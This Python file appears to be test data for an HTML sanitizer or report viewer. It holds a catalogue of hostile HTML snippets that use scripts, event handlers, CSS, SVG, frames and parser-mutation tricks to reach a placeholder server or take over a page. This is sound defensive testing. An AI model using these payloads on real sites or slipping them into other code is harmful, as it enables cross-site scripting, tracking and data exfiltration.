"""Small reports, each with one way to reach somebody else's server at ``{at}``, or to take over."""

PNG = "data:image/png;base64,iVBORw0KGgo="


def _head(markup: str) -> str:
    return f"<!DOCTYPE html><html><head>{markup}</head><body><p id=state>quiet</p></body></html>"


def _body(markup: str) -> str:
    return f"<!DOCTYPE html><html><body><p id=state>quiet</p>{markup}</body></html>"


HOSTILE_REPORTS: dict[str, str] = {
    # Connections that no policy on content stops.
    "preconnect": _head('<link rel="preconnect" href="{at}">'),
    "preconnect crossorigin": _head('<link rel="preconnect" href="{at}" crossorigin>'),
    "dns-prefetch": _head('<link rel="dns-prefetch" href="{at}">'),
    "prefetch": _head('<link rel="prefetch" href="{at}">'),
    "prerender": _head('<link rel="prerender" href="{at}">'),
    "preload": _head('<link rel="preload" as="image" href="{at}">'),
    "modulepreload": _head('<link rel="modulepreload" href="{at}">'),
    "stylesheet": _head('<link rel="stylesheet" href="{at}">'),
    "alternate stylesheet": _head('<link rel="alternate stylesheet" href="{at}">'),
    "icon": _head('<link rel="icon" href="{at}">'),
    "manifest": _head('<link rel="manifest" href="{at}">'),
    "canonical and next": _head('<link rel="next prefetch preconnect" href="{at}">'),
    "link in the body": _body('<link rel="preconnect" href="{at}">'),
    "preconnect in noscript": _head('<noscript><link rel="preconnect" href="{at}"></noscript>'),
    "picture in noscript": _body('<noscript><img src="{at}"></noscript>'),
    "meta refresh": _head('<meta http-equiv="refresh" content="0;url={at}">'),
    "meta refresh in noscript": _head(
        '<noscript><meta http-equiv="refresh" content="0;url={at}"></noscript>'
    ),
    "meta link header": _head('<meta http-equiv="Link" content="<{at}>; rel=preconnect">'),
    "meta dns": _head(
        '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="{at}">a</a>'
    ),
    "meta policy": _head(
        '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {at}">'
        '<img src="{at}">'
    ),
    "speculation rules": _head(
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{at}"]}]}</script>'
    ),
    "base": _head('<base href="{at}/"><img src="a"><link rel="preconnect" href="a">'),
    "manifest attribute": '<!DOCTYPE html><html manifest="{at}"><p id=state>quiet</p></html>',
    # Frames and embedded things.
    "iframe": _body('<iframe src="{at}"></iframe>'),
    "iframe srcdoc": _body("<iframe srcdoc=\"<link rel=preconnect href='{at}'>\"></iframe>"),
    "iframe lazy": _body('<iframe loading="eager" src="{at}"></iframe>'),
    "iframe javascript": _body("<iframe src=\"javascript:location='{at}'\"></iframe>"),
    "frameset": '<html><frameset cols="50%,50%"><frame src="{at}"></frameset></html>',
    "noframes": '<html><frameset></frameset><noframes><img src="{at}"></noframes></html>',
    "object": _body('<object data="{at}"></object>'),
    "object pdf": _body('<object type="application/pdf" data="{at}"></object>'),
    "embed": _body('<embed src="{at}">'),
    "applet": _body('<applet code="a" codebase="{at}"></applet>'),
    "portal": _body('<portal src="{at}"></portal>'),
    "fencedframe": _body('<fencedframe src="{at}"></fencedframe>'),
    # Pictures, sound and film.
    "img": _body('<img src="{at}">'),
    "img srcset": _body('<img srcset="{at} 1x">'),
    "img lowsrc": _body('<img lowsrc="{at}" dynsrc="{at}" longdesc="{at}">'),
    "image": _body('<image src="{at}">'),
    "picture": _body('<picture><source srcset="{at}"><img alt="a"></picture>'),
    "video": _body('<video src="{at}" autoplay></video>'),
    "video poster": _body('<video poster="{at}"></video>'),
    "video source": _body('<video autoplay><source src="{at}"></video>'),
    "video track": _body('<video><track default src="{at}"></video>'),
    "audio": _body('<audio src="{at}" autoplay></audio>'),
    "input image": _body('<input type="image" src="{at}">'),
    "body background": '<html><body background="{at}"><p id=state>quiet</p></body></html>',
    "td background": _body('<table background="{at}"><tr><td background="{at}">a</table>'),
    "entities": _body('<img src="&#104;ttp://{at}"><img src="{at}&#10;">'),
    # Style.
    "css url": _head("<style>body{background:url({at})}</style>"),
    "css import": _head('<style>@import "{at}";</style>'),
    "css import url": _head("<style>@import url({at}) screen;</style>"),
    "css font": _head("<style>@font-face{font-family:x;src:url({at})}p{font-family:x}</style>"),
    "css escapes": _head(r"<style>p{background:\75\72\6c({at})}</style>"),
    "css image-set": _head("<style>p{background:image-set('{at}' 1x)}</style>"),
    "css cursor": _head("<style>*{cursor:url({at}),auto}</style>"),
    "css content": _head("<style>p::before{content:url({at})}</style>"),
    "css variable": _head("<style>p{--a:url({at});background:var(--a)}</style>"),
    "css comment": _head("<style>p{background:/*}*/url({at})}</style>"),
    "css namespace": _head('<style>@namespace "{at}";p{color:red}</style>'),
    "css attribute": _body('<p style="background:url({at})">a</p>'),
    "css attribute list": _body('<ul><li style="list-style-image:url({at})">a</ul>'),
    "css in svg": _body("<svg><style>@import '{at}';</style></svg>"),
    "css ends early": _head('<style>p{color:red}</style ><img src="{at}">'),
    # SVG and MathML.
    "svg image": _body('<svg><image href="{at}" width="9" height="9"/></svg>'),
    "svg xlink": _body('<svg><image xlink:href="{at}" width="9" height="9"/></svg>'),
    "svg use": _body('<svg><use href="{at}#a"/></svg>'),
    "svg feImage": _body('<svg><filter id="f"><feImage href="{at}"/></filter></svg>'),
    "svg foreignObject": _body('<svg><foreignObject><img src="{at}"></foreignObject></svg>'),
    "svg script": _body('<svg><script href="{at}"></script></svg>'),
    "svg onload": _body("<svg onload=\"location='{at}'\"></svg>"),
    "svg data": _body("<img src=\"data:image/svg+xml,<svg xmlns='a'><image href='{at}'/></svg>\">"),
    "math": _body('<math href="{at}"><mi xlink:href="{at}">a</mi></math>'),
    "math style": _body(
        '<math><mtext><table><mglyph><style><img src="{at}"></style></table></math>'
    ),
    # Scripts and handlers.
    "script": _body("<script>document.title='taken over';fetch('{at}');alert(1)</script>"),
    "script src": _body('<script src="{at}"></script>'),
    "onerror": _body("<img src=x onerror=\"fetch('{at}')\">"),
    "autofocus": _body("<input autofocus onfocus=\"fetch('{at}')\">"),
    "details": _body("<details open ontoggle=\"fetch('{at}')\">a</details>"),
    "animation": _body(
        "<style>@keyframes a{}p{animation:a}</style><p onanimationstart=\"fetch('{at}')\">a</p>"
    ),
    "top": _body("<script>top.location='{at}'</script>"),
    "dialog": _body("<script>alert(document.domain);prompt('password')</script>"),
    "template": _body('<template shadowrootmode="open"><img src="{at}"></template>'),
    "template script": _body(
        "<div><template shadowroot=open><script>fetch('{at}')</script></template>"
    ),
    # Forms and links.
    "form": _body('<form action="{at}"><input autofocus><button>a</button></form>'),
    "formaction": _body('<button formaction="{at}">a</button>'),
    "ping": _body('<a href="#" ping="{at}">a</a>'),
    "link": _body('<a href="{at}" target="_top">a</a><map><area href="{at}" target="_top"></map>'),
    "dns of links": _body('<a href="{at}">a</a>'),
    # Readings that differ.
    "mutation": _body('<noscript><p title="</noscript><img src={at}>">'),
    "mutation xmp": _body('<xmp><p title="</xmp><img src={at}>">'),
    "mutation comment": _body('<!--><img src="{at}">-->'),
    "mutation comment bang": _body('<!-- --!><img src="{at}">'),
    "mutation textarea": _body('<textarea></textarea ><img src="{at}"></textarea>'),
    "mutation select": _body('<select><style></select><img src="{at}"></style>'),
    "mutation title": _head('<title></title/><img src="{at}"></title>'),
    "slashes": _body('<img/src="{at}"/x><p/onclick="fetch(\'{at}\')"/style=background:url({at})>'),
    "nul": _body('<im\x00g src="{at}"><img\x00 src="{at}">'),
    "xml": "<?xml-stylesheet href='{at}'?>" + _body('<?import href="{at}">'),
    "plaintext": _body('<plaintext><img src="{at}">'),
    "bogus end tag": _body('</p/x><img src="{at}"></br foo="{at}">'),
}
